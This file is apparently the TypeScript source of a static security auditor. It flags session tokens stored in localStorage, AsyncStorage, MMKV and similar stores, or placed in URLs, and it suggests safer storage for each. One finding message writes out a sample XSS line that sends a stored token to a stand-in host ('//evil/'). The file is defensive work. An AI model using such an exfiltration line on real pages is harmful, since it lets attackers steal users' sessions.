// Tokens in places scripts (or anyone holding the device) can read: web storage and React Native
// AsyncStorage (session/token-in-web-storage), and URLs (session/token-in-url). The value must be
// shown to hold a token by the data flow: a storage key such as 'userInfo' proves nothing.
import { isNode, keyName, type Node, unwrap } from '../js/ast.js';
import { type AuditContext, args, callAnchor, calleeName, calleeObject } from './context.js';
import { isFunction, stringLiteral } from './flow.js';
import { isRefreshName, isTokenName } from './libraries.js';
import { inServerContext, routeContext } from './server.js';
import { importedFunction, storedParameters } from './modules.js';
import { classifyToken, holdsToken, returnedExpressions, type TokenKind } from './tokens.js';

type Store = 'localStorage' | 'sessionStorage' | 'AsyncStorage' | 'MMKV' | 'Capacitor Preferences' | 'Ionic Storage' | 'localforage';

const MOBILE: ReadonlySet<Store> = new Set(['AsyncStorage', 'MMKV', 'Capacitor Preferences', 'Ionic Storage']);

function storeOf(ctx: AuditContext, node: Node | undefined): Store | undefined {
  const target = node ? (unwrap(node) as Node) : undefined;
  if (!target) return undefined;
  const name = target.type === 'Identifier' ? (target.name as string) : target.type === 'MemberExpression' && !target.computed ? keyName(target.property) : undefined;
  if (name === 'localStorage' || name === 'sessionStorage') return name;
  if (target.type === 'Identifier' && (ctx.importOf(target)?.source === '@react-native-async-storage/async-storage' || name === 'AsyncStorage')) return 'AsyncStorage';
  return undefined;
}

function describe(kind: TokenKind): string {
  if (kind === 'login-body') return 'the login response, which carries the token';
  if (kind === 'refresh') return 'a refresh token';
  return 'a token';
}

const MOBILE_FIX: Record<string, string> = {
  AsyncStorage: 'Use expo-secure-store (SecureStore.setItemAsync) or react-native-keychain (Keychain.setGenericPassword), which keep it in the iOS Keychain / Android Keystore',
  MMKV: "Give MMKV an encryptionKey held in the Keychain/Keystore (new MMKV({ id, encryptionKey })), or use expo-secure-store / react-native-keychain",
  'Capacitor Preferences': 'Preferences are plain files (UserDefaults / SharedPreferences): use a Keychain/Keystore plugin such as @capacitor-community/secure-storage or capacitor-secure-storage-plugin',
  'Ionic Storage': 'Ionic Storage keeps it in plain SQLite/IndexedDB: use a Keychain/Keystore plugin (@capacitor-community/secure-storage, Ionic Identity Vault)',
};

function reportStorage(ctx: AuditContext, at: Node, store: Store, key: string | undefined, kind: TokenKind, via?: string): void {
  const what = `${describe(kind)}${via ? ` (through ${via})` : ''}`;
  const keyText = key === undefined ? '' : ` under '${key}'`;
  const message = MOBILE.has(store)
    ? `${store} stores ${what}${keyText} unencrypted on the device: device backups, other apps on a rooted or jailbroken phone and debug builds read it. ${MOBILE_FIX[store]}`
    : `${store} stores ${what}${keyText}: any script on the page reads it (one XSS line: fetch('//evil/?t='+${store === 'localforage' ? 'await localforage' : store}.getItem('${key ?? 'token'}'))) and web storage cannot be HttpOnly. Keep the session in a cookie the server sets (res.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })), or keep a short-lived access token in memory only`;
  ctx.report('session/token-in-web-storage', at, message, { data: { store, holds: kind } });
}

/** Key-value stores of mobile and hybrid apps, and localforage: `store.set(key, value)` forms. */
function keyValueStore(ctx: AuditContext, call: Node): { store: Store; key: Node | undefined; value: Node | undefined } | undefined {
  const name = calleeName(call);
  const object = calleeObject(call);
  if (!object || !name) return undefined;
  const list = args(call);
  const source = ctx.importOf(object)?.source;
  if (name === 'setItem' && source === 'localforage') return { store: 'localforage', key: list[0], value: list[1] };
  // Capacitor: Preferences.set({ key, value }) (and the older @capacitor/storage Storage.set).
  if (name === 'set' && source !== undefined && /^@capacitor\/(preferences|storage)$/.test(source)) {
    const view = ctx.flow.objectView(list[0]);
    const key = view?.get('key');
    const value = view?.get('value');
    return { store: 'Capacitor Preferences', key: isNode(key) ? key : undefined, value: isNode(value) ? value : undefined };
  }
  if (name !== 'set' && name !== 'setString') return undefined;
  // react-native-mmkv: new MMKV() without an encryptionKey.
  const made = ctx.flow.resolve(object);
  if (made?.type === 'NewExpression' && ctx.importOf(made.callee)?.source === 'react-native-mmkv') {
    const options = args(made)[0] ? ctx.flow.objectView(args(made)[0]) : undefined;
    if (args(made)[0] && (options?.has('encryptionKey') !== false)) return undefined;
    return { store: 'MMKV', key: list[0], value: list[1] };
  }
  // @ionic/storage: this.storage.set(key, value) on an injected Storage.
  const objectName = object.type === 'Identifier' ? (object.name as string) : object.type === 'MemberExpression' ? keyName(object.property) : undefined;
  if (name === 'set' && objectName && /^_?storage$/i.test(objectName) && ctx.importsFrom(/^@ionic\/storage/)) return { store: 'Ionic Storage', key: list[0], value: list[1] };
  return undefined;
}

/**
 * A key that names a session token (`token`, `accessToken`, `jwt`) filled with a value computed at
 * run time: the key says what the value is. A key that says nothing (`user`, `userInfo`) is no
 * evidence either way; literals (`'true'`, `''`) are not tokens.
 */
function keyEvidence(key: string | undefined, value: Node | undefined): TokenKind | undefined {
  if (key === undefined || !value || !isTokenName(key)) return undefined;
  const target = unwrap(value) as Node;
  if (stringLiteral(target) !== undefined || target.type === 'Literal' || (target.type === 'Identifier' && target.name === 'undefined')) return undefined;
  return isRefreshName(key) ? 'refresh' : 'token';
}

const STORAGE_HOOK = /^use(Local|Session)Storage(State)?$|^useStorage$/;

/**
 * Storage behind app state: React `useLocalStorage` / `useSessionStorage` setters, VueUse
 * `useLocalStorage(...).value = ...`, zustand `persist(...)` and Pinia `persist: true` stores whose
 * state holds a token (both persist to localStorage by default).
 */
function checkPersistedState(ctx: AuditContext): void {
  for (const { node } of ctx.declarators) {
    const init = isNode(node.init) ? (unwrap(node.init) as Node) : undefined;
    if (init?.type !== 'CallExpression') continue;
    // The hook's own name, through an import alias (`useLocalStorage as useVueStorage`).
    const imported = ctx.importOf(init.callee)?.imported;
    const hook = imported && imported !== 'default' && imported !== '*' ? imported : calleeName(init);
    if (!hook || !STORAGE_HOOK.test(hook)) continue;
    const key = stringLiteral(ctx.flow.resolve(args(init)[0]) ?? args(init)[0]);
    const store: Store = /session/i.test(hook) ? 'sessionStorage' : 'localStorage';
    const id = node.id as Node;
    const writes: { at: Node; value: Node }[] = [];
    if (id.type === 'ArrayPattern') {
      const setter = (id.elements as (Node | null)[])[1];
      if (setter?.type !== 'Identifier') continue;
      for (const { node: call } of ctx.calls) {
        const callee = unwrap(call.callee) as Node;
        const arg = args(call)[0];
        if (callee.type === 'Identifier' && callee.name === setter.name && arg) writes.push({ at: callee, value: arg });
      }
    } else if (id.type === 'Identifier') {
      for (const { node: assignment } of ctx.assignments) {
        const left = unwrap(assignment.left) as Node;
        if (left.type === 'MemberExpression' && keyName(left.property) === 'value' && (unwrap(left.object) as Node).type === 'Identifier' && (unwrap(left.object) as Node).name === id.name) writes.push({ at: left, value: assignment.right as Node });
      }
    }
    for (const { at, value } of writes) {
      const kind = classifyToken(ctx, value) ?? keyEvidence(key, value);
      if (holdsToken(kind)) reportStorage(ctx, at, store, key, kind!);
    }
  }
  for (const { node } of ctx.calls) {
    const name = calleeName(node);
    // zustand: create(persist((set) => ({ token: null, ... }), { name: 'auth' }))
    if (name === 'persist' && ctx.importsFrom(/^zustand/)) {
      const creator = args(node)[0];
      const options = args(node)[1] ? ctx.flow.objectView(args(node)[1]) : undefined;
      const storage = options?.get('storage');
      if (isNode(storage) && !/localStorage|sessionStorage/.test(ctx.text(storage))) continue; // a custom (secure) storage
      const state = creator && isFunction(creator) ? returnedExpressions(creator)[0] : undefined;
      const tokenKey = state ? tokenKeyOf(ctx, state) : undefined;
      if (tokenKey) reportStorage(ctx, callAnchor(node), isNode(storage) && /sessionStorage/.test(ctx.text(storage)) ? 'sessionStorage' : 'localStorage', tokenKey, 'token');
    }
    // Pinia with pinia-plugin-persistedstate: defineStore('auth', { state: () => ({ token }), persist: true })
    if (name === 'defineStore') {
      const options = ctx.flow.objectView(args(node).find((a) => (unwrap(a) as Node).type === 'ObjectExpression'));
      const persist = options?.get('persist');
      if (!isNode(persist) || (unwrap(persist) as Node).type === 'Literal' && (unwrap(persist) as Node).value === false) continue;
      const persistView = ctx.flow.objectView(persist);
      const storage = persistView?.get('storage');
      if (isNode(storage) && !/localStorage|sessionStorage/.test(ctx.text(storage))) continue;
      const stateFn = options?.get('state');
      const state = isNode(stateFn) && isFunction(stateFn) ? returnedExpressions(stateFn)[0] : undefined;
      const tokenKey = state ? tokenKeyOf(ctx, state) : undefined;
      if (tokenKey) reportStorage(ctx, callAnchor(node), isNode(storage) && /sessionStorage/.test(ctx.text(storage)) ? 'sessionStorage' : 'localStorage', tokenKey, 'token');
    }
  }
}

function tokenKeyOf(ctx: AuditContext, state: Node): string | undefined {
  const view = ctx.flow.objectView(state);
  return view ? [...view.entries()].map(([k]) => k).find(isTokenName) : undefined;
}

export function checkStorage(ctx: AuditContext): void {
  checkPersistedState(ctx);
  for (const { node } of ctx.calls) {
    const name = calleeName(node);
    if (name !== 'setItem' && name !== 'multiSet') continue;
    const store = storeOf(ctx, calleeObject(node));
    if (!store) continue;
    const list = args(node);
    if (name === 'multiSet') {
      const pairs = ctx.flow.resolve(list[0]);
      for (const pair of pairs?.type === 'ArrayExpression' ? (pairs.elements as Node[]) : []) {
        const items = pair?.type === 'ArrayExpression' ? (pair.elements as Node[]) : [];
        const kind = classifyToken(ctx, items[1]);
        if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store, stringLiteral(items[0]), kind!);
      }
      continue;
    }
    const key = stringLiteral(ctx.flow.resolve(list[0]) ?? list[0]);
    const kind = classifyToken(ctx, list[1]) ?? keyEvidence(key, list[1]);
    if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store, key, kind!);
  }
  for (const { node } of ctx.calls) {
    const found = keyValueStore(ctx, node);
    if (!found?.value) continue;
    const key = found.key ? stringLiteral(ctx.flow.resolve(found.key) ?? found.key) : undefined;
    const kind = classifyToken(ctx, found.value) ?? keyEvidence(key, found.value);
    if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), found.store, key, kind!);
  }
  checkStorageHelpers(ctx);
  for (const { node } of ctx.assignments) {
    const left = unwrap(node.left) as Node;
    if (left.type !== 'MemberExpression' || node.operator !== '=') continue;
    const store = storeOf(ctx, left.object as Node);
    if (!store || MOBILE.has(store)) continue;
    const kind = classifyToken(ctx, node.right) ?? keyEvidence(keyName(left.property), node.right as Node);
    if (holdsToken(kind)) reportStorage(ctx, left, store, keyName(left.property), kind!);
  }
}

/**
 * A storage helper of another module (`addUserToLocalStorage(user)` in utils/localStorage.js)
 * called here with the login answer: the helper's own file cannot see what it is given, this one
 * can. Helpers whose key or parameter names a token report in their own file, not here again.
 */
function checkStorageHelpers(ctx: AuditContext): void {
  for (const { node } of ctx.calls) {
    if (node.type !== 'CallExpression') continue;
    const callee = unwrap(node.callee) as Node;
    const root = callee.type === 'MemberExpression' ? callee.object : callee;
    if (!ctx.importOf(root)) continue;
    const helper = importedFunction(ctx, callee);
    if (!helper) continue;
    for (const { index, store, key, keyNode } of storedParameters(helper)) {
      const param = (helper.fn.params as Node[])[index];
      if ((param?.type === 'Identifier' && isTokenName(param.name as string)) || (key !== undefined && isTokenName(key)) || !keyNode) continue;
      const value = args(node)[index];
      const kind = value ? classifyToken(ctx, value) : undefined;
      if (holdsToken(kind)) reportStorage(ctx, callAnchor(node), store as Store, key, kind!, `${helper.name}()`);
    }
  }
}

const ONE_TIME = /reset|verif|confirm|invite|activat|magic|unsubscribe|email|password/i;

function urlMessage(what: string): string {
  return `${what}: URLs land in server and proxy logs, browser history and the Referer header of every link the page follows, where anyone reading them replays the token. Send it as \`Authorization: Bearer <token>\` (passport-jwt: ExtractJwt.fromAuthHeaderAsBearerToken()) or in an HttpOnly cookie`;
}

export function checkTokenInUrl(ctx: AuditContext): void {
  // Reading the token from the query string as the way requests authenticate.
  for (const { node, ancestors } of ctx.members) {
    const object = unwrap(node.object) as Node;
    const key = keyName(node.property);
    if (key === undefined || !isTokenName(key) || !isQuery(object)) continue;
    if (!inServerContext(ctx, ancestors) || ONE_TIME.test(routeContext(ctx, ancestors))) continue;
    ctx.report('session/token-in-url', node, urlMessage(`The server reads the token from the query string (${ctx.text(node)})`));
  }
  for (const { node, ancestors } of ctx.calls) {
    const name = calleeName(node);
    const list = args(node);
    // const { token } = req.query is covered through the declarator below.
    if (name === 'fromUrlQueryParameter') ctx.report('session/token-in-url', callAnchor(node), urlMessage('passport-jwt takes the token from the URL (ExtractJwt.fromUrlQueryParameter)'));
    if ((name === 'get' || name === 'getAll') && /searchParams$/.test(ctx.text(calleeObject(node) ?? node)) && isTokenName(stringLiteral(list[0]) ?? '') && inServerContext(ctx, ancestors) && !ONE_TIME.test(routeContext(ctx, ancestors))) {
      ctx.report('session/token-in-url', callAnchor(node), urlMessage(`The server reads the token from the query string (searchParams.get('${stringLiteral(list[0])}'))`));
    }
    if ((name === 'set' || name === 'append') && isSearchParams(ctx, calleeObject(node)) && isTokenParam(stringLiteral(list[0]) ?? '') && list[1] && stringLiteral(list[1]) === undefined) {
      const param = stringLiteral(list[0])!;
      reportUrl(ctx, callAnchor(node), ONE_TIME.test(param) || ONE_TIME.test(routeContext(ctx, ancestors)), `A token is added to a URL (${name}('${param}', ...))`);
    }
    // new URLSearchParams({ token }) and socket.io-client io(url, { query: { token } }).
    if (node.type === 'NewExpression' && calleeName(node) === 'URLSearchParams') {
      const params = list[0] ? ctx.flow.objectView(list[0]) : undefined;
      const key = params ? [...params.entries()].map(([k]) => k).find(isTokenParam) : undefined;
      if (key) reportUrl(ctx, node, ONE_TIME.test(key) || ONE_TIME.test(routeContext(ctx, ancestors)), `A token is put in URL parameters (URLSearchParams '${key}')`);
    }
    if ((name === 'io' || name === 'connect') && ctx.importsFrom(/^socket\.io-client$/) && list[1]) {
      const query = ctx.flow.objectView(list[1])?.get('query');
      const view = isNode(query) ? ctx.flow.objectView(query) : undefined;
      const key = view ? [...view.entries()].map(([k]) => k).find(isTokenParam) : undefined;
      if (key) ctx.report('session/token-in-url', callAnchor(node), urlMessage(`socket.io sends the token in the handshake URL (query.${key}); pass it as io(url, { auth: { token } }) instead, which travels in the handshake body`));
    }
  }
  for (const { node } of ctx.objects) {
    for (const prop of node.properties as Node[]) {
      if (prop.type !== 'Property' || prop.computed) continue;
      const key = keyName(prop.key);
      if (key === 'params' && isNode(prop.value)) {
        const params = ctx.flow.objectView(prop.value);
        const tokenKey = params ? [...params.entries()].map(([k]) => k).find(isTokenName) : undefined;
        if (tokenKey) ctx.report('session/token-in-url', prop.key as Node, urlMessage(`A token is sent as the query parameter '${tokenKey}'`));
      }
    }
  }
  checkDestructuredQuery(ctx);
  checkBuiltUrls(ctx);
}

/** `url.searchParams`, `new URL(...).searchParams`, or a name bound to `new URLSearchParams(...)`. */
function isSearchParams(ctx: AuditContext, object: Node | undefined): boolean {
  if (!object) return false;
  if (/searchParams$/.test(ctx.text(object))) return true;
  const value = ctx.flow.resolve(object);
  return value?.type === 'NewExpression' && calleeName(value) === 'URLSearchParams';
}

function isTokenParam(name: string): boolean {
  return (isTokenName(name) || ONE_TIME_TOKEN.test(name)) && !NOT_SESSION_PARAM.test(name);
}

const ONE_TIME_TOKEN = /^(reset|verif\w*|confirm\w*|invite|activation|magic)_?token$/i;

function isQuery(node: Node): boolean {
  if (node.type !== 'MemberExpression' || keyName(node.property) !== 'query') return false;
  const owner = unwrap(node.object) as Node;
  const ownerName = owner.type === 'Identifier' ? (owner.name as string) : owner.type === 'MemberExpression' ? keyName(owner.property) : undefined;
  return ownerName !== undefined && /^(req|request|ctx|context|c)$/.test(ownerName);
}

function checkDestructuredQuery(ctx: AuditContext): void {
  for (const { node, ancestors } of ctx.members) {
    if (!isQuery(node)) continue;
    const declarator = ctx.flow.declaratorOf(node);
    const id = declarator?.id as Node | undefined;
    if (id?.type !== 'ObjectPattern') continue;
    const tokenProp = (id.properties as Node[]).find((p) => p.type === 'Property' && isTokenName(keyName(p.key) ?? ''));
    if (!tokenProp || !inServerContext(ctx, ancestors) || ONE_TIME.test(routeContext(ctx, ancestors))) continue;
    ctx.report('session/token-in-url', tokenProp, urlMessage(`The server reads the token from the query string (${ctx.text(declarator!)})`));
  }
}

// A query parameter whose name says it carries a token: `token=`, `access_token=`, `jwt=`,
// `verification_token=`. Paging and push tokens (`page_token`, `next_token`, `device_token`) do not grant a session.
const QUERY_PARAM = /[?&]([\w-]*token|jwt|bearer|session_?id|authorization|auth)=$/i;
const NOT_SESSION_PARAM = /page|next|cursor|continuation|sync|upload|captcha|csrf|xsrf|push|device|fcm|apns|notification|invite_code/i;

const THIRD_PARTY_API = /:\/\/([\w-]+\.)*(graph\.facebook\.com|facebook\.com|googleapis\.com|google\.com|mapbox\.com|github\.com|instagram\.com|slack\.com|telegram\.org|twitter\.com|linkedin\.com|spotify\.com|discord(app)?\.com|stripe\.com|youtube\.com|openweathermap\.org|newsapi\.org|vimeo\.com|dropbox(api)?\.com|zoom\.us)\b/i;

function reportUrl(ctx: AuditContext, at: Node, oneTime: boolean, what: string): void {
  if (oneTime) {
    ctx.report(
      'session/token-in-url',
      at,
      `${what} in a link (e-mail verification, password reset, magic link): links are how these flows work, and the URL still lands in mail logs, browser history and the Referer header. Make the token single-use and short-lived (minutes to an hour), store only its hash, and serve the landing page with Referrer-Policy: no-referrer`,
      { severity: 'info', data: { oneTime: true } },
    );
    return;
  }
  ctx.report('session/token-in-url', at, urlMessage(what));
}

/** `/api/me?token=${token}`, `'?access_token=' + jwt`: a token-named query parameter filled with a value. */
function checkBuiltUrls(ctx: AuditContext): void {
  const visit = (node: Node, ancestors: readonly Node[], statics: string[], holes: Node[]) => {
    const full = statics.join('');
    // A third-party API that takes its key in the query (Graph API, Mapbox, Telegram bots): its design, not this app's session.
    if (THIRD_PARTY_API.test(full)) return;
    for (let i = 0; i < holes.length; i++) {
      const param = QUERY_PARAM.exec(statics[i] ?? '')?.[1];
      if (param === undefined || NOT_SESSION_PARAM.test(param)) continue;
      const hole = unwrap(holes[i]) as Node;
      if (stringLiteral(hole) !== undefined) continue;
      const holeText = ctx.text(hole);
      if (/csrf|xsrf|push|device|fcm|apns|page|cursor|captcha/i.test(holeText)) continue;
      // A token-named parameter filled at run time carries what its name says; a vaguer name
      // (`auth=`) needs the value to be shown to be a token.
      if (!/token|jwt|bearer|session_?id|authorization/i.test(param) && !holdsToken(classifyToken(ctx, hole)) && !isTokenName(holeText)) continue;
      const oneTime = ONE_TIME.test(param) || ONE_TIME.test(holeText) || ONE_TIME.test(full) || ONE_TIME.test(routeContext(ctx, ancestors));
      reportUrl(ctx, node, oneTime, 'A token is put in a URL query string');
      return;
    }
  };
  for (const { node, ancestors } of ctx.strings) {
    const parent = ctx.flow.parents.get(node);
    if (parent?.type === 'BinaryExpression' && parent.operator === '+') continue; // judged as part of the whole
    if (node.type === 'TemplateLiteral') {
      const quasis = (node.quasis as Node[]).map((q) => (q.value as { cooked?: string }).cooked ?? '');
      visit(node, ancestors, quasis, node.expressions as Node[]);
      continue;
    }
    const parts: (string | Node)[] = [];
    flattenConcat(node, parts);
    const statics: string[] = [];
    const holes: Node[] = [];
    let current = '';
    for (const part of parts) {
      if (typeof part === 'string') current += part;
      else {
        statics.push(current);
        holes.push(part);
        current = '';
      }
    }
    statics.push(current);
    visit(node, ancestors, statics, holes);
  }
}

function flattenConcat(node: Node, parts: (string | Node)[]): void {
  const target = unwrap(node) as Node;
  if (target.type === 'BinaryExpression' && target.operator === '+') {
    flattenConcat(target.left as Node, parts);
    flattenConcat(target.right as Node, parts);
    return;
  }
  const text = stringLiteral(target);
  parts.push(text ?? target);
}

